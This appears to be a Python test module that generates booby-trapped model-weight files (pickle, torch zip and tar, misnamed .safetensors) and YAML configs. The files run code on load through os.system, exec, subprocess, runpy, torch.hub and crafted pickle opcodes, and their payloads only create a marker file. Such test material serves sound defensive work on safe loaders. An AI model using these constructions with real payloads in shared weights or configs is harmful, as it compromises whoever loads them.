"""Files that run code when they are opened without care: weights of every format, and configs.

All that their code does is to make a file, the marker, by which it is known to have run.
"""

import importlib
import io
import pickle
import subprocess
import tarfile
import zipfile
from collections import OrderedDict
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass
from functools import partial
from pathlib import Path

import numpy as np
import torch


@dataclass(frozen=True)
class Attack:
    """One malicious file."""

    payload: str  # how the code is to run
    container: str  # the format of the file, and its name's ending
    path: Path
    marker: Path  # exists once the code has run
    asks_for: str  # the first function that the pickle asks for; "" if it is no pickle

    @property
    def name(self) -> str:
        return f"{self.payload} in {self.container}"

    def succeeded(self) -> bool:
        """Whether the code has run."""
        return self.marker.exists()


class _Call:
    """Is pickled as a call, which whoever unpickles it makes."""

    def __init__(self, function: Callable, *args):
        self._reduced = function, args

    def __reduce__(self):
        return self._reduced

    def __call__(self):
        """Only so that pickle takes the result of a call for a function."""


@dataclass(frozen=True)
class _Payload:
    # From the marker and a folder for more files to what the weights hold.
    make: Callable[[Path, Path], object]
    asks_for: str


def _shell(marker: Path) -> str:
    return f"touch '{marker}'"


def _python(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


def _system(marker: Path) -> _Call:
    import os

    return _Call(os.system, _shell(marker))


def _numpy_load(marker: Path, folder: Path) -> _Call:
    second = folder / "second.npy"
    np.save(second, np.array([_system(marker)], dtype=object), allow_pickle=True)
    return _Call(np.load, str(second), None, True)


def _runstring(marker: Path, folder: Path) -> _Call:
    from numpy.testing._private import utils

    return _Call(utils.runstring, _python(marker), {})


def _load_from_bytes(marker: Path, folder: Path) -> _Call:
    second = io.BytesIO()
    torch.save(_system(marker), second)
    return _Call(torch.storage._load_from_bytes, second.getvalue())


def _hub(marker: Path, folder: Path) -> _Call:
    (folder / "hubconf.py").write_text(f"def weights():\n    {_python(marker)}\n")
    return _Call(torch.hub._load_local, str(folder), "weights")


def _collect_env(marker: Path, folder: Path) -> _Call:
    from torch.utils import collect_env

    return _Call(collect_env.run, _shell(marker))


def _getattr(marker: Path, folder: Path) -> _Call:
    return _Call(_Call(getattr, _Call(importlib.import_module, "os"), "system"), _shell(marker))


def _run_path(marker: Path, folder: Path) -> _Call:
    import runpy

    script = folder / "second.py"
    script.write_text(_python(marker))
    return _Call(runpy.run_path, str(script))


_OBJECTS = {
    "os.system": _Payload(lambda marker, _: _system(marker), "posix.system"),
    "subprocess.Popen": _Payload(
        lambda marker, _: _Call(subprocess.Popen, ["touch", str(marker)]), "subprocess.Popen"
    ),
    "builtins.exec": _Payload(lambda marker, _: _Call(exec, _python(marker)), "builtins.exec"),
    "builtins.eval": _Payload(lambda marker, _: _Call(eval, _python(marker)), "builtins.eval"),
    "builtins.open": _Payload(lambda marker, _: _Call(open, str(marker), "w"), "io.open"),
    "builtins.getattr": _Payload(_getattr, "builtins.getattr"),
    "functools.partial": _Payload(
        lambda marker, _: _Call(partial(exec, _python(marker))), "functools.partial"
    ),
    "runpy.run_path": _Payload(_run_path, "runpy.run_path"),
    "pickle.loads": _Payload(
        lambda marker, _: _Call(pickle.loads, pickle.dumps(_system(marker))), "pickle.loads"
    ),
    "numpy.load": _Payload(_numpy_load, "numpy.load"),
    "numpy runstring": _Payload(_runstring, "numpy.testing._private.utils.runstring"),
    "numpy array of objects": _Payload(
        lambda marker, _: np.array([_system(marker)], dtype=object), "numpy.dtype('O8')"
    ),
    "attribute of a container": _Payload(
        lambda marker, _: _with_attribute(_system(marker)), "posix.system"
    ),
    "torch _load_from_bytes": _Payload(_load_from_bytes, "torch.storage._load_from_bytes"),
    "torch.hub": _Payload(_hub, "torch.hub._load_local"),
    "torch collect_env": _Payload(_collect_env, "torch.utils.collect_env.run"),
}


def _with_attribute(value) -> OrderedDict:
    weights = OrderedDict()
    weights.metadata = value
    return weights


def _opcodes(marker: Path) -> dict[str, tuple[bytes, str]]:
    """Pickles that no pickler writes, and what each asks for."""
    command = _shell(marker).encode()
    return {
        "INST opcode": (b"(S" + repr(_shell(marker)).encode() + b"\nios\nsystem\n.", "os.system"),
        "dotted name": (
            b"\x80\x04\x8c\x13torch.serialization\x8c\x09os.system\x93"
            + (b"X" + len(command).to_bytes(4, "little") + command)
            + b"\x85R.",
            "torch.serialization.os.system",
        ),
    }


def _checkpoint(poison) -> dict:
    """What looks like the weights of every format at once."""
    weights = {"backbone.weight": np.ones(3, dtype=np.float32), "backbone.bias": poison}
    return {"model": weights, "model_state": weights, "__author__": "a stranger"}


def _write_raw(path: Path, content: bytes) -> None:
    path.write_bytes(content)


def _write_zip(path: Path, content: bytes) -> None:
    """As ``torch.save`` writes, around any pickle."""
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("archive/data.pkl", content)
        archive.writestr("archive/version", b"3\n")


# A name's ending, how it is written, and the pickle protocol.
_CONTAINERS = {
    "zoo pickle .pkl": (".pkl", _write_raw, 4),
    "pickle of Python 2 .pkl": (".pkl", _write_raw, 2),
    "pickle .pth": (".pth", _write_raw, 4),
    "torch zip .pth": (".pth", _write_zip, 2),
    "torch zip of protocol 4 .pth": (".pth", _write_zip, 4),
    "torch zip .pyth": (".pyth", _write_zip, 2),
    "pickle .safetensors": (".safetensors", _write_raw, 4),
    "torch zip .safetensors": (".safetensors", _write_zip, 2),
}


def weights_attacks(directory: Path) -> Iterator[Attack]:
    """Every payload in every container, and an archive of torch before 0.2.

    Args:
        directory: an empty folder; each attack gets one of its own in there.
    """
    number = 0

    def place(payload: str, container: str, ending: str, asks_for: str) -> Attack:
        nonlocal number
        number += 1
        folder = directory / f"{number:03d}"
        folder.mkdir(parents=True)
        weights = folder / f"weights{ending}"
        return Attack(payload, container, weights, folder / "marker", asks_for)

    for container, (ending, write, protocol) in _CONTAINERS.items():
        for payload, recipe in _OBJECTS.items():
            attack = place(payload, container, ending, recipe.asks_for)
            poison = recipe.make(attack.marker, attack.path.parent)
            write(attack.path, pickle.dumps(_checkpoint(poison), protocol))
            yield attack
        for payload in _opcodes(directory):
            attack = place(payload, container, ending, "")
            content, asks_for = _opcodes(attack.marker)[payload]
            write(attack.path, content)
            yield Attack(payload, container, attack.path, attack.marker, asks_for)

    for payload, recipe in _OBJECTS.items():
        attack = place(payload, "torch's older format .pth", ".pth", recipe.asks_for)
        poison = recipe.make(attack.marker, attack.path.parent)
        torch.save(_checkpoint(poison), attack.path, _use_new_zipfile_serialization=False)
        yield attack

    attack = place("os.system", "torch tar .pth", ".pth", "")
    _write_tar(attack.path, pickle.dumps(_system(attack.marker)))
    yield attack


def _write_tar(path: Path, content: bytes) -> None:
    """As torch wrote before 0.2: it reads ``storages`` first."""
    with tarfile.open(path, "w:", format=tarfile.PAX_FORMAT) as archive:
        for name in ("storages", "tensors", "pickle"):
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))


def open_without_care(path: Path) -> None:
    """Opens a file by what is in it, and lets it run what it likes, whatever fails then."""
    with suppress(Exception):
        if zipfile.is_zipfile(path) or tarfile.is_tarfile(path):
            torch.load(path, weights_only=False)
        elif path.suffix == ".pth":
            torch.load(path, weights_only=False, encoding="latin1")
        else:
            pickle.loads(path.read_bytes(), encoding="latin1")


def config_attacks(marker: Path) -> dict[str, str]:
    """YAML that runs code, by the tag that does it."""
    return {
        tag: f"MODEL:\n  WEIGHTS: {tag} {arguments}\n"
        for tag, arguments in {
            "!!python/object/apply:os.system": f'["{_shell(marker)}"]',
            "!!python/object/apply:builtins.exec": f'["{_python(marker)}"]',
            "!!python/object/apply:subprocess.check_call": f"[[touch, '{marker}']]",
            "!!python/object/new:type": (
                "{args: [z, !!python/tuple [], {extend: !!python/name:exec }], "
                f'listitems: "{_python(marker)}"}}'
            ),
        }.items()
    }
